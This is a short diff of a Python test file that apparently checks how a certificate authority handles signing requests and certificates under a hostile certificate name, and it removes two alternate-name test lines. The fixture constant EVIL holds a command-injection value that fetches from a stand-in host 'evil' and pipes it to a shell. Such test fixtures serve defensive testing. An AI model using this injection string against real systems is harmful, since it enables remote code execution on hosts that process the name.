@@ -99,11 +99,9 @@ EVIL = "x;curl evil|sh"
 def test_requests_and_certificates_at_the_master() -> None:
     key = key_digest("k")
     own = read_csr(request_pem(EVIL, key="k"))
-    alt = request_pem(EVIL, ["puppet"], key="k")
     for requests, signed, application in (
         ({EVIL: request_pem(EVIL, key="other")}, {}, own),
         ({EVIL: "garbage"}, {}, own),
-        ({EVIL: alt}, {}, read_csr(alt)),
         ({}, {EVIL: NEW.issue(EVIL, 5, key="other")}, own),
         ({}, {EVIL: NEW.issue("another", 5)}, own),
         ({}, {EVIL: "garbage"}, own),
